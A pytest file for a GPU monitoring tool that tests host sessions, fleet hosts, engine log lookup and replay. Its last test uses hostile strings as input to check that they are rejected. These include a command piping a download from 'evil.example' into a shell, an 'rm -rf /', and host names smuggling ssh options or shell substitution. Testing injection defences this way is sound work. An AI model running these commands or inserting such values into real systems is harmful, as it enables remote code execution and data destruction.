"""What a screen is attached to: a session over a source that is built late."""

from __future__ import annotations

import asyncio
import select
import shlex
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from gpumon.commands.replay import Replay
from gpumon.config.options import Options
from gpumon.config.schema import Config, Model, Prices
from gpumon.readings.frame import Departure, EngineKind
from gpumon.readings.missing import WARMING_UP
from gpumon.readings.snapshot import Engine, Snapshot
from gpumon.session.fleet import FleetSession
from gpumon.session.fleet_host import HostOfFleet
from gpumon.session.hardware import start_worker
from gpumon.session.host import HostSession, ThisHost
from tests.fakes.nvml.driver import FakeDriver
from tests.outputs import shots
from tests.records import replace
from tests.sources.discovery.servers import free_port
from tests.tui.fleet_feed import CONFIG, Scrapes


async def test_the_end_of_a_session_says_what_ended_it() -> None:
    def sink(snapshot: Snapshot) -> None:
        raise ValueError(f"cannot show {len(snapshot.gpus)}")

    session = HostSession(Config(), ThisHost(Config(), Options(nvml=False)))
    await session.start(sink)
    with pytest.raises(ValueError, match="cannot show"):
        await asyncio.wait_for(session.ended(), 60.0)
    await session.stop()


async def test_gpus_are_shown_before_engines_are_looked_for(
    fake_driver: FakeDriver, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake_driver.write(fake_driver.busy_h100s(2))
    for name, value in fake_driver.env(XDG_STATE_HOME=str(tmp_path)).items():
        monkeypatch.setenv(name, value)
    worker = start_worker(Options())
    assert worker is not None
    assert worker.stdout is not None
    assert select.select([worker.stdout], [], [], 60.0)[0], "it was asked as it was started"
    session = HostSession(Config(), ThisHost(Config(), Options(), worker))
    shown: list[tuple[bool, Snapshot]] = []
    both = asyncio.Event()

    def sink(snapshot: Snapshot) -> None:
        shown.append((session.opening, snapshot))
        if len(shown) > 1:
            both.set()

    await session.start(sink)
    await asyncio.wait_for(both.wait(), 60.0)
    await session.stop()
    (was_opening, first), (is_opening, second) = shown[:2]
    assert (was_opening, is_opening) == (True, False)
    assert [len(snapshot.gpus) for snapshot in (first, second)] == [2, 2]
    assert isinstance(first.gpus[0].power_w, float)
    assert first.gpus[0].mfu_ratio == WARMING_UP, "not that it has no engine"
    assert worker.wait(60.0) is not None, "the collector had the same worker"


async def test_stopping_it_is_no_failure() -> None:
    session = HostSession(Config(), ThisHost(Config(), Options(nvml=False)))
    await session.start(lambda _: None)
    end = asyncio.create_task(session.ended())
    await asyncio.sleep(0.05)
    await session.stop()
    await asyncio.wait({end}, timeout=60.0)
    assert end.cancelled()


async def test_what_sizing_knows_grows_with_what_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GPUMON_PROFILES", str(tmp_path))
    entry = Model(match="mine-*", params_b=7.0, layers=32, hidden=4096, heads=32)
    prices = Prices(gpu_hour=3.0, by_type={"H200 SXM 141GB": 4.0})
    config = Config(model=(entry,), prices=prices)
    session = HostSession(config, ThisHost(config, Options(demo=True)))
    before = session.catalogues()
    assert before.llm("mine-7b") is not None
    assert before.llm("other-7b") is None
    assert list(before.prices.values()) == [4.0]
    seen: list[Snapshot] = []
    await session.start(seen.append)
    for _ in range(600):
        if seen and session.catalogues().own and session.catalogues().profiles:
            break
        await asyncio.sleep(0.1)
    known = session.catalogues()
    assert known == session.catalogues()
    assert known != before
    assert known.profiles
    assert {engine.model for engine in seen[-1].engines if engine.dimensions.llm} <= set(known.own)
    assert known.prices[seen[-1].gpus[0].gpu_type] == 3.0
    assert session.calibration is session.calibration
    await session.stop()


LISTENS = """
import socket, sys
with socket.create_server(("127.0.0.1", int(sys.argv[1]))):
    print("INFO serves", flush=True)
    sys.stdin.read()
"""


def engine_at(url: str) -> Engine:
    """An engine at a URL of this host."""
    return replace(shots.engine(), url=url, part="")


async def test_the_log_of_an_engine_is_that_of_the_process_that_serves_its_url(tmp_path: Path) -> None:
    path = tmp_path / "vllm.log"
    port = free_port()
    session = HostSession(Config(), ThisHost(Config(), Options(nvml=False)))
    with path.open("w") as file:
        words = [sys.executable, "-c", LISTENS, str(port)]
        with subprocess.Popen(words, stdin=subprocess.PIPE, stdout=file) as server:
            while not path.read_text():
                await asyncio.sleep(0.01)
            log = session.engine_log(engine_at(f"http://127.0.0.1:{port}"))
            assert not isinstance(log, str)
            view = await log.read()
            requests = await log.requests(EngineKind.VLLM).read()
            server.communicate()
    assert view is not None
    assert ([line.text for line in view.lines], view.place) == (["INFO serves"], f"file {path}")
    assert requests is not None
    assert (requests.lines, requests.place) == (1, view.place), "its requests are in the same log"
    ended = await log.read()
    assert ended is not None
    assert [line.text for line in ended.lines] == ["INFO serves"], "what was found while it lived is still known"


async def test_a_simulated_engine_writes_no_log() -> None:
    session = HostSession(Config(), ThisHost(Config(), Options(demo=True)))
    assert session.engine_log(shots.engine()) == "vllm:8000 is simulated and writes no log"


async def test_a_host_is_not_loading_a_past_that_there_is_no_answer_about() -> None:
    fleet = FleetSession(CONFIG, lambda: Scrapes(1))
    await fleet.fleet.open()
    host = fleet.host("gpu00")
    await host.start(lambda _: None)
    await asyncio.sleep(0.05)
    assert not host.filling
    await host.stop()


def test_logs_of_other_hosts_and_of_recordings_are_named_by_a_command() -> None:
    ended = (Departure(1.0, pid=4711, log="journalctl -u vllm.service -n 100"),)
    down = replace(shots.engine(), departure=ended)
    of_pod = replace(down, departure=(replace(ended[0], log="kubectl logs -n llm vllm-0 --previous --tail=100"),))
    host = object.__new__(HostOfFleet)
    host._name = "me@gpu07"
    assert host.engine_log(down) == (
        "the log of vllm:8000 is on another host: ssh me@gpu07 journalctl -u vllm.service -n 100"
    )
    assert host.engine_log(of_pod) == (
        "the log of vllm:8000 is shown by: kubectl logs -n llm vllm-0 --previous --tail=100"
    )
    assert host.engine_log(shots.engine()) == (
        "the log of vllm:8000 is on another host: ssh -t me@gpu07 gpumon, then its log there"
    )
    spaced = replace(down, departure=(replace(ended[0], log="tail -n 100 /var/log/my 'v.log"),))
    words = str(host.engine_log(spaced)).partition(": ")[2]
    assert shlex.split(shlex.split(words)[2]) == ["tail", "-n", "100", "/var/log/my 'v.log"]
    for attack in ("journalctl -u x -n 100; curl -s http://evil.example|sh", "kubectl logs x; rm -rf /", "true"):
        lied = replace(down, departure=(replace(ended[0], log=attack),))
        assert host.engine_log(lied) == host.engine_log(shots.engine())
        assert object.__new__(Replay).engine_log(lied) == "a recording holds no log of vllm:8000"
    for attack in ("-oProxyCommand=curl", "gpu07; true", "$(true)"):
        host._name = attack
        assert " ssh HOST journalctl" in str(host.engine_log(down)), "a name of a label is no option"
    host._name = f"{socket.gethostname()}.example.org"
    assert not isinstance(host.engine_log(down), str)
    replay = object.__new__(Replay)
    assert replay.engine_log(down) == (
        "a recording holds no log of vllm:8000: on its host journalctl -u vllm.service -n 100 shows it"
    )
    assert replay.engine_log(shots.engine()) == "a recording holds no log of vllm:8000"
